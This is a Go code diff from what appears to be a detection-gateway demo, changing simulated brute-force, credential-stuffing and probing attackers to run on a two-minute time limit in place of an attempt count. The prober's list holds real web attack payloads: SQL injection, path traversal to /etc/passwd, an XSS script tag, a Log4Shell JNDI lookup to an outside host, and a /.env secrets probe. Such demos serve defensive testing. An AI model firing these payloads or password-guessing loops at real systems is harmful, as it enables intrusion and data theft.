@@ -192,17 +192,21 @@ func blocked(status int, body []byte) bool {
 }
 
 // Attack scripts go on until the gateway blocks them (then send a few more
-// requests, which it refuses), or until their list ends: the demo's
-// outcome never depends on how fast the machine is.
-const afterBlock = 3
+// requests, which it refuses), for up to attackFor: the demo's outcome
+// never depends on how fast the machine is (a loaded machine's detection
+// may take seconds; a count of attempts would run out first).
+const (
+	afterBlock = 3
+	attackFor  = 2 * time.Minute
+)
 
 // bruteForcer guesses alice's password from one address, fast.
 func bruteForcer(ctx context.Context, c *client, wordlist []string) {
 	if !pause(ctx, 400*time.Millisecond, 600*time.Millisecond) {
 		return
 	}
-	refused := 0
-	for i := 0; i < 300 && refused < afterBlock && ctx.Err() == nil; i++ {
+	refused, begin := 0, time.Now()
+	for i := 0; time.Since(begin) < attackFor && refused < afterBlock && ctx.Err() == nil; i++ {
 		pw := wordlist[i%len(wordlist)]
 		if i >= len(wordlist) {
 			pw += strconv.Itoa(i / len(wordlist))
@@ -233,7 +237,7 @@ func stuffer(ctx context.Context, c *client) {
 		return
 	}
 	var mu sync.Mutex
-	refused, next := 0, 0
+	refused, next, begin := 0, 0, time.Now()
 	var wg sync.WaitGroup
 	for range 4 {
 		wg.Add(1)
@@ -243,7 +247,7 @@ func stuffer(ctx context.Context, c *client) {
 				mu.Lock()
 				i := next
 				next++
-				stop := refused >= afterBlock || i >= 200
+				stop := refused >= afterBlock || time.Since(begin) > attackFor
 				mu.Unlock()
 				if stop {
 					return
@@ -271,8 +275,8 @@ func prober(ctx context.Context, c *client) {
 	probes := []string{"/api/orders/1%27%20OR%20%271%27=%271", "/api/orders?id=1%20UNION%20SELECT%20password%20FROM%20users--",
 		"/api/../../etc/passwd", "/api/orders/1;DROP%20TABLE%20orders", "/api/users?name=%3Cscript%3Ealert(1)%3C/script%3E",
 		"/api/orders/%24%7Bjndi:ldap://203.0.113.9/a%7D", "/.env", "/api/orders/1%20AND%20SLEEP(5)"}
-	refused := 0
-	for i := 0; i < 60 && refused < afterBlock && ctx.Err() == nil; i++ {
+	refused, begin := 0, time.Now()
+	for i := 0; time.Since(begin) < attackFor && refused < afterBlock && ctx.Err() == nil; i++ {
 		status, body := c.do(ctx, "GET", probes[i%len(probes)], nil)
 		if blocked(status, body) {
 			refused++
